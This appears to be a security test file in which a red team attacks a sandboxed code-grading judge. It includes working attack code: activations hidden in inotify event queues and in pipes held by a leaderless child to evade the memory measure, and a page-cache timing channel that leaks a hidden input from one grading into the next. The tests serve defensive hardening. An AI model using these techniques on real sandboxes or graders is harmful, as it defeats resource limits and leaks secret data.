"""A seventh red team's attacks on the judge (round 7), on docker-runc, docker-runsc and local.

Each test plants one attack as a student would (its only input is the code it submits) and
asserts the SAFE outcome; an attack that works stays as a strict xfail whose reason says how it
works and what would close it. The reviewer knew only README.md, sandbox/README.md, the design
notes and the code.

The attacks, on the memory measure (``memory_held``, grader/harness/programs.py
``Program.held_memory_bytes``) through checkpoint-rematerialise's "Keeps only the inputs", a
checkpoint that saves every activation and hides what it saved (round 6's ending):

1. in the event queue of an inotify instance: an empty file is renamed in a watched folder once
   for each 222 bytes of a tensor, the bytes in the new name (7 bits a byte), and IN_MOVED_TO
   queues that name until the checkpoint reads the queue back in backward. Worked on
   docker-runsc (ACCEPTED): gVisor keeps queued events in the sentry's heap, with no
   max_queued_events bound, and neither its meminfo nor VmRSS nor statvfs of the home moves
   (150,000 renames queued 39 MB of events: meminfo +0.4 MB, VmRSS +0, 7.5 s of CPU). Held on
   docker-runc and local, where a queue holds at most 16384 events (fs.inotify.max_queued_events)
   and overflows: the activations come back wrong; and the kernel charges events to the memory
   cgroup (in a plain runc container 20 instances x 16000 events, 83 MB queued, moved the charge
   by 159 MB), so the charged bound would see more instances too.
3. in pipes held by a child whose main thread has exited (syscall exit, not exit_group) while
   another thread keeps the descriptors: Linux shows the zombie leader's /proc/PID/fd empty and its
   status without VmRSS, so the judge's resident bound and pipe count see nothing of it (tried in
   a plain runc container: 480 full pipes, /proc/PID/fd listed 0 entries, no VmRSS line). Held on
   docker-runsc by the measure (271 MB more than the reference: gVisor still lists the shared
   descriptor table under the zombie leader, the judge counts each pipe in full, and meminfo
   counts the keepers' interpreters). Held on docker-runc and local by the time limit before the
   measure: past pipe-user-pages-soft (64 MB of pipe buffers per uid, the lent uid's alone) Linux
   gives a new pipe one page, and the keeper's blocking 64 KiB write never returned; the memory
   cgroup charges pipe buffers anyway, so the charged bound would count them.

And one on hidden data across gradings (invariant 4):

2. a hidden input carried from one grading to the next in the host's page cache: the worker that
   sees the constant hidden input drops the pages of a read-only file of the image that nothing
   reads (torch/_VF.pyi, posix_fadvise DONTNEED works on a read-only descriptor) and reads one
   page back per 1 bit, three pages a bit; the next grading's worker, at import (before any
   hidden input of its own, so its output is shown), times a one-byte read of each page
   (cached: 1-7 us; from disk: 70-560 us) and prints what it found. Runs on docker-runc and
   local, whose sandboxes share the host's page cache (the image's lower layer, the worker's
   own venv); gVisor's sentry caches files in its own memory, and RWF_NOWAIT answers
   EOPNOTSUPP there (and on overlayfs). Worked on docker-runc and local: the next grading printed
   the previous one's hidden input. Tried by hand (plain containers, not a test) with gVisor:
   posix_fadvise is a no-op there, so a runsc sandbox cannot clear a page, but its reads go to
   the host's page cache through the gofer, so it can set cold pages (a runc reader read the
   16-bit pattern a runsc writer left in torch/_VF.pyi exactly), and a runsc reader told them
   apart too (cached 80-116 us, from disk 139-681 us): write-once bits on pages nothing reads
   (torch/bin/test_api: 15 MB), one fresh region per message.
"""
from __future__ import annotations

import secrets

import pytest

from grader.contract import Kind
from grader.host import grade
from testbed.exercises import TOML
from tests.sandbox.backends import backend_sandbox
from tests.security.test_redteam_judge import HIDDEN_CHECKS, SOLUTION, exercise, summary
from tests.security.test_redteam_round5 import held_by_memory_measure
from tests.security.test_redteam_round6 import PARK_EACH_SAVED_TENSOR_ONCE

# --- 1. saved activations in an inotify event queue ----------------------------------------------
#
# One inotify instance per saved tensor watches a folder of the home for IN_MOVED_TO; an empty
# file is renamed there once per 222 bytes, the bytes in its new name. The queue holds every
# name (16 + 256 bytes an event) until backward reads it; the file ends deleted, the folder
# removed: nothing on disk, nothing in any process's memory.
SAVED_IN_INOTIFY_EVENTS = r'''
import ctypes
import itertools
import os
import struct
import weakref

import numpy as np
import torch

_libc = ctypes.CDLL(None, use_errno=True)
_IN_MOVED_TO = 0x80
_DATA_PER_NAME = 222  # bytes: 1776 bits, 7 in each of 254 bytes of a name, after a 1-byte toggle (NAME_MAX 255)
_HIDDEN_TENSORS = 24  # all of the chain's activations (16 left the checkpoint's own heap debris over the margin)
_hidden = itertools.count()
_dirs = itertools.count()


def _names(data):
    """Each 222 bytes of ``data`` as a 255-byte name: a toggle (so that no rename is to the same
    name), then 7 bits in each byte with the top bit set (never NUL, never '/')."""
    rows = -(-len(data) // _DATA_PER_NAME)
    padded = np.zeros(rows * _DATA_PER_NAME, dtype=np.uint8)
    padded[:len(data)] = np.frombuffer(data, dtype=np.uint8)
    bits = np.unpackbits(padded.reshape(rows, _DATA_PER_NAME), axis=1)
    bits = np.concatenate([bits, np.zeros((rows, 2), dtype=np.uint8)], axis=1).reshape(rows, 254, 7)
    bits = np.concatenate([np.ones((rows, 254, 1), dtype=np.uint8), bits], axis=2)
    body = np.packbits(bits.reshape(rows, 254 * 8), axis=1)
    toggle = np.where(np.arange(rows) % 2 == 0, ord("a"), ord("b")).astype(np.uint8).reshape(rows, 1)
    return np.concatenate([toggle, body], axis=1)


def _data(names, size):
    body = np.unpackbits(names[:, 1:], axis=1).reshape(len(names), 254, 8)[:, :, 1:].reshape(len(names), 1778)
    return np.packbits(body[:, :_DATA_PER_NAME * 8], axis=1).reshape(-1)[:size].tobytes()


class _Parked:
    """A saved tensor's bytes in the inotify queue of a folder the file is renamed in, name after name."""

    def __init__(self, tensor):
        tensor = tensor.detach().contiguous()
        self.dtype, self.shape = tensor.dtype, tuple(tensor.shape)
        self.tensor, self.fd = None, None
        if tensor.numel() * tensor.element_size() < 1 << 20 or next(_hidden) >= _HIDDEN_TENSORS:
            self.tensor = tensor.clone()
            return
        data = tensor.view(-1).view(torch.uint8).numpy().tobytes()
        self.size = len(data)
        where = os.path.join(os.environ.get("HOME", "/tmp").encode(), b"q%d" % next(_dirs))
        os.mkdir(where)
        self.fd = _libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self.fd < 0 or _libc.inotify_add_watch(self.fd, where, _IN_MOVED_TO) < 0:
            raise OSError(ctypes.get_errno(), "inotify")
        current = os.path.join(where, b"start")
        open(current, "wb").close()
        rename, step = os.rename, _DATA_PER_NAME * 512  # a few names at a time: no large temporaries
        for at in range(0, len(data), step):
            for name in _names(data[at:at + step]):
                new = where + b"/" + name.tobytes()
                rename(current, new)
                current = new
        os.unlink(current)
        os.rmdir(where)

    def get(self):
        if self.tensor is None:
            chunks = []
            while True:
                try:
                    chunk = os.read(self.fd, 1 << 20)
                except BlockingIOError:
                    break
                if not chunk:
                    break
                chunks.append(chunk)
            os.close(self.fd)
            events, names, at = b"".join(chunks), [], 0
            while at < len(events):
                length = struct.unpack_from("iIII", events, at)[3]
                names.append(events[at + 16:at + 16 + length].rstrip(b"\0"))
                at += 16 + length
            names = [n for n in names if len(n) == 255]
            array = np.frombuffer(b"".join(names), dtype=np.uint8).reshape(len(names), 255)
            self.tensor = torch.frombuffer(bytearray(_data(array, self.size)), dtype=torch.uint8).view(
                self.dtype).reshape(self.shape)
        return self.tensor


''' + PARK_EACH_SAVED_TENSOR_ONCE


@pytest.mark.parametrize("backend", ["docker-runc", "docker-runsc", "local"])
def test_activations_in_inotify_events_are_counted_as_held(backend, requires):
    """Worked on docker-runsc (ACCEPTED: 96 MB of activations in 24 queues, 454,000 renames within
    the CPU limit; gVisor keeps queued events in the sentry's heap with no bound, in no meminfo,
    VmRSS or statvfs). Closed: a confined process gets no inotify (nor fanotify) instance."""
    held_by_memory_measure(backend, requires, SAVED_IN_INOTIFY_EVENTS)


# --- 2. a hidden input carried to the next grading in the host's page cache ------------------------
#
# The same code graded twice on an exercise with a constant hidden input (round 1's
# echoes_a_constant_hidden_input). The first grading's echo() writes the last 8 bytes of the
# input it is given as page-cache residency of torch/_VF.pyi; the second grading's module
# prints, when it loads, what it reads there, before it has seen a hidden input of its own.
CARRIED_IN_THE_PAGE_CACHE = SOLUTION + r'''
import os
import sys
import time

_PAGE = 4096
_COPIES = 3  # pages a bit: the majority decides, so one slow read under load does not flip it
_SIZE = 8


def _file():
    for entry in sys.path:
        found = os.path.join(entry, "torch", "_VF.pyi")
        if os.path.isfile(found):
            return found
    raise FileNotFoundError("torch/_VF.pyi")


def _pages(bit):
    return [(1 + bit * _COPIES + copy) * _PAGE for copy in range(_COPIES)]


def leave(data):
    """Each bit of ``data`` as whether three pages of the file are in the host's page cache."""
    fd = os.open(_file(), os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # no readahead: one page read is one page cached
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)  # every page out first
    except PermissionError:
        pass  # refused: bits can still be set on pages that are out
    for bit in range(len(data) * 8):
        if data[bit // 8] >> (bit % 8) & 1:
            for offset in _pages(bit):
                os.pread(fd, 1, offset)
    os.close(fd)


def pick_up():
    fd = os.open(_file(), os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    bits = []
    for bit in range(_SIZE * 8):
        cached = 0
        for offset in _pages(bit):
            start = time.perf_counter_ns()
            os.pread(fd, 1, offset)
            cached += time.perf_counter_ns() - start < 20_000
        bits.append(cached * 2 > _COPIES)
    os.close(fd)
    return bytes(sum(bits[8 * byte + k] << k for k in range(8)) for byte in range(_SIZE))


print("CARRIED", pick_up(), flush=True)


def echo(text):
    leave(text[-_SIZE:].encode())
    return text
'''
# Drawn per test run, so that what an earlier run left in the page cache cannot pass for a carry.
CONSTANT_SECRET = "hidden-input-" + secrets.token_hex(4)


@pytest.mark.parametrize("backend", ["docker-runc", "local"])
def test_a_hidden_input_does_not_reach_the_next_gradings_output(tmp_path, backend, requires):
    """Worked on docker-runc and local (the second grading printed the first one's hidden input;
    every grading ACCEPTED). Closed by refusing eviction to confined processes (fadvise DONTNEED,
    madvise COLD and PAGEOUT: sandbox/zygote.py): the first grading's own reading at import
    brings every page in, and nothing can take one out again. What stays open is writing bits
    once on pages no one has read (README, "Security")."""
    sandbox = backend_sandbox(backend, requires)
    checks = f"SECRET = {CONSTANT_SECRET!r}\n" + HIDDEN_CHECKS
    solution = SOLUTION + "\ndef echo(t):\n    return t\n"
    shown = []
    for number in range(3):  # the first leaves it; either later one may read it (one try can meet a busy disk)
        verdict = grade(exercise(tmp_path / str(number), checks=checks, solution=solution, toml=TOML),
                        CARRIED_IN_THE_PAGE_CACHE, sandbox)
        assert verdict.verdict == Kind.ACCEPTED, summary(verdict)
        assert "CARRIED" in verdict.stdout, verdict.stdout
        shown.append(verdict.stdout)
    assert all(CONSTANT_SECRET[-8:] not in stdout for stdout in shown[1:]), shown


# --- 3. saved activations in pipes of a child whose leader thread exited --------------------------
#
# One keeper per saved tensor: a fresh interpreter whose second thread reads the tensor's bytes
# from stdin into pipes (64 KiB each, write ends closed), while its main thread ends alone
# (SYS_exit). The checkpoint reads the bytes back through /proc/PID/task/TID/fd/N.
SAVED_IN_A_LEADERLESS_KEEPER = r'''
import os
import signal
import subprocess
import sys
import weakref

import torch

_PIPE = 1 << 16
_KEEPER = """
import ctypes, os, sys, threading

def keep():
    fds = []
    size = int(sys.argv[1])
    data = sys.stdin.buffer
    for _ in range(0, size, 65536):
        chunk = data.read(min(65536, size))
        size -= len(chunk)
        r, w = os.pipe()
        os.write(w, chunk)
        os.close(w)
        fds.append(r)
    sys.stdout.write("%d %s\\n" % (threading.get_native_id(), ",".join(map(str, fds))))
    sys.stdout.flush()
    threading.Event().wait()

threading.Thread(target=keep).start()
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread alone ends
"""


class _Parked:
    """A saved tensor's bytes in pipes a leaderless child holds."""

    def __init__(self, tensor):
        tensor = tensor.detach().contiguous()
        self.dtype, self.shape = tensor.dtype, tuple(tensor.shape)
        self.tensor, self.keeper = None, None
        if tensor.numel() * tensor.element_size() < 1 << 20:
            self.tensor = tensor.clone()
            return
        data = tensor.view(-1).view(torch.uint8).numpy().tobytes()
        self.size = len(data)
        self.keeper = subprocess.Popen([sys.executable, "-c", _KEEPER, str(len(data))],
                                       stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.keeper.stdin.write(data)
        self.keeper.stdin.close()
        tid, fds = self.keeper.stdout.readline().split()
        self.keeper.stdout.close()
        self.tid, self.fds = int(tid), [int(fd) for fd in fds.split(b",")]

    def get(self):
        if self.tensor is None:
            chunks = []
            for fd in self.fds:
                held = os.open("/proc/%d/task/%d/fd/%d" % (self.keeper.pid, self.tid, fd), os.O_RDONLY | os.O_NONBLOCK)
                chunks.append(os.read(held, _PIPE))
                os.close(held)
            os.kill(self.keeper.pid, signal.SIGKILL)
            self.keeper.wait()
            data = bytearray(b"".join(chunks)[:self.size])
            self.tensor = torch.frombuffer(data, dtype=torch.uint8).view(self.dtype).reshape(self.shape)
        return self.tensor

''' + PARK_EACH_SAVED_TENSOR_ONCE


@pytest.mark.parametrize("backend", ["docker-runc", "docker-runsc", "local"])
def test_activations_in_pipes_of_a_leaderless_child_are_counted_as_held(backend, requires):
    held_by_memory_measure(backend, requires, SAVED_IN_A_LEADERLESS_KEEPER)
